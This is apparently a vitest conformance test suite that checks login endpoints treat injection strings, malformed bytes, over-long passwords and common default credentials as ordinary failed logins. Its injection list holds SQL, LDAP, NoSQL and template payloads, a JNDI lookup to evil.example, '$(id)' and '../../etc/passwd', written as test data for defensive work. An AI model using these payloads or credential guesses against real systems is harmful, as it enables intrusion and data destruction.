import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { Sent } from '../../src/conformance/request.ts'
import { startTestServer, type TestServer } from '../test-server.ts'
import { isAccepted, visible } from './every-api.ts'
import { ada, grace, type Login, logins, membersOf, nameLike, newPerson, tryLogin } from './logins.ts'
import { newPlace, type Place } from './place.ts'

let server: TestServer

beforeAll(async () => {
  server = await startTestServer()
})

afterAll(async () => {
  await server.stop()
})

/** A world in which guessing is not slowed down. */
async function patientPlace({ api }: Login): Promise<Place> {
  const place = newPlace(server)
  await place
    .hooks(api.id)
    .changeSettings({ failuresPerLogin: 1_000, failuresPerAccount: 1_000, failuresPerAddress: 1_000 })
  return place
}

/** Text that opens protected operations where text is taken for code. */
const injections = [
  "' OR '1'='1",
  "ada'--",
  "ada' UNION SELECT * FROM accounts--",
  'ada"; DROP TABLE accounts;--',
  '*',
  '*)(uid=*',
  'ada)(|(password=*)',
  '\u0024{jndi:ldap://evil.example/x}',
  '{{7*7}}',
  '$(id)',
  '{"$ne":null}',
  '%',
  '_da',
  'a%',
  'ADA\\',
  '../../etc/passwd',
  'ada%00',
  '<script>alert(1)</script>',
  '😀'.repeat(60),
]

/** What of an injection an address may hold. */
function asName(login: Login, text: string): string {
  return login.name === 'login' ? text : nameLike(login, text.replaceAll(/[^a-z0-9'*%_$-]/gi, ''))
}

/** A login with something else in the place of a text. */
function withMember(login: Login, text: string, instead: unknown): Sent {
  const { json, form, multipart } = login.request('ada@example.com', 'a-password')
  const key =
    Object.entries(membersOf({ json, form, multipart } as Sent)).find(([, value]) => value === text)?.[0] ?? ''
  if (json !== undefined) return { json: { ...(json as object), [key]: instead } }
  const fields = Object.entries(instead as object).map(([name, value]) => [`${key}[${name}]`, String(value)] as const)
  const { [key]: _gone, ...others } = form ?? {}
  return { form: { ...others, ...Object.fromEntries(fields) } }
}

describe.each(logins)('at $title', (login: Login) => {
  test('AB19: injection strings are names and passwords like any other', async () => {
    const place = await patientPlace(login)
    const answer = async (name: string, password: string) =>
      visible(await tryLogin(place, login, name, password), login.api.suite.varying)
    const refused = await answer(nameLike(login, 'nobody'), 'wrong-password')
    expect(refused.status).toBe(login.refused)
    for (const text of injections) {
      expect([text, await answer(asName(login, text), 'wrong-password')]).toEqual([text, refused])
      expect([text, await answer(ada[login.name], text.padEnd(8, '-'))]).toEqual([text, refused])
    }
  })

  test('AB19: objects and lists are no names and no passwords', async () => {
    const place = newPlace(server)
    for (const text of ['ada@example.com', 'a-password'])
      for (const instead of [{ $ne: '' }, { $gt: '' }, [text], { length: 8 }]) {
        const got = await place.send('POST', login.path, withMember(login, text, instead))
        expect([instead, got.status]).toEqual([instead, login.invalid])
      }
  })

  test.each(passwords)('AB21: $name counts to the last byte', async ({ password, near }) => {
    const place = await patientPlace(login)
    const name = await newPerson(place, login, 'exact', password)
    expect(isAccepted(await tryLogin(place, login, name, password))).toBe(true)
    for (const other of near(password)) {
      const { status } = await tryLogin(place, login, name, other)
      expect([other, status]).toEqual([
        other,
        expect.toSatisfy((each) => [login.refused, login.invalid].includes(each)),
      ])
    }
    expect(isAccepted(await tryLogin(place, login, name, password))).toBe(true)
  })

  test('AB22: ill-formed text is refused as such, and never taken for another password', async () => {
    const place = newPlace(server)
    const mark = 'stands-for-a-password'
    const { json, form } = login.request(ada[login.name], mark)
    const text = json === undefined ? new URLSearchParams(form).toString() : JSON.stringify(json)
    const [before = '', after = ''] = text.split(mark)
    for (const bytes of [...illFormed.everywhere, ...illFormed[json === undefined ? 'form' : 'json']]) {
      const body = Buffer.concat([Buffer.from(before), Buffer.from(bytes), Buffer.from(after)])
      const type = json === undefined ? 'application/x-www-form-urlencoded' : 'application/json'
      const got = await place.send('POST', login.path, { raw: { type, body } })
      expect([bytes, got.status]).toEqual([bytes, login.invalid])
    }
  })

  test('AB20: no pair of the common names and passwords opens anything but what is published', async () => {
    const place = await patientPlace(login)
    const names = ['admin', 'root', 'test', 'user', 'guest', 'administrator', 'demo', 'latchkey']
    for (const name of names) {
      const opened = await Promise.all(
        ['password', '12345678', 'administrator', name.padEnd(8, name)].map(
          async (password) => (await tryLogin(place, login, nameLike(login, name), password)).status,
        ),
      )
      expect([name, opened]).toEqual([name, Array(4).fill(login.refused)])
    }
    expect(isAccepted(await tryLogin(place, login, grace[login.name], grace.password))).toBe(true)
  })
})

/** Bytes and escapes that are no text. */
const illFormed: Readonly<Record<'everywhere' | 'form' | 'json', readonly (string | readonly number[])[]>> = {
  everywhere: [[0xff], [0xfe], [0xed, 0xa0, 0x80], [0xc0, 0x80], [0xf4, 0x90, 0x80, 0x80]],
  form: ['%ff', '%ed%a0%80', '%c0%80', '%', '%zz'],
  json: ['\\ud800', '\\udc00\\ud800', '\\ud800long-enough', '\\u12', '\\x41', '\t'],
}

/** Passwords that are good in every character, and what must not be taken for them. */
const passwords: readonly {
  readonly name: string
  readonly password: string
  readonly near: (password: string) => readonly string[]
}[] = [
  {
    name: 'a long one',
    password: `${'correct-horse-battery-staple-'.repeat(8)}`.slice(0, 200),
    near: (password) => [
      password.slice(0, 72),
      `${password.slice(0, 199)}x`,
      password.toUpperCase(),
      `${password} `,
      ` ${password}`,
      `${password}\0`,
      `${password}\0x`,
    ],
  },
  {
    name: 'the longest',
    password: 'p'.repeat(1_024),
    near: (password) => [password.slice(1), `${password.slice(1)}q`],
  },
  {
    name: 'one of all scripts',
    password: 'žluťoučký 密码 пароль 🔑 كلمة',
    near: (password) => [password.normalize('NFD'), password.replace('🔑', '🗝'), password.slice(0, -1)],
  },
  { name: 'one of compatibility forms', password: 'ﬁle ① ｆｕｌｌ', near: (password) => [password.normalize('NFKC')] },
  {
    name: 'one with form and JSON syntax',
    password: 'a&b=c+d%20e"f\\g{h}',
    near: (password) => [decodeURIComponent(password), password.replace('+', ' ')],
  },
]

test('AB22: ill-formed text is refused where a password is set', async () => {
  const place = newPlace(server)
  for (const { api } of logins)
    for (const password of ['\\ud800long-enough', '\\ud801long-enough', '\\udc00\\ud800long-enough']) {
      const body = `{"email":"ill@example.com","password":"${password}"}`
      const raw = { type: 'application/json', body }
      expect((await place.send('POST', `/sandbox/v1/apis/${api.id}/accounts`, { raw })).status).toBe(400)
    }
})
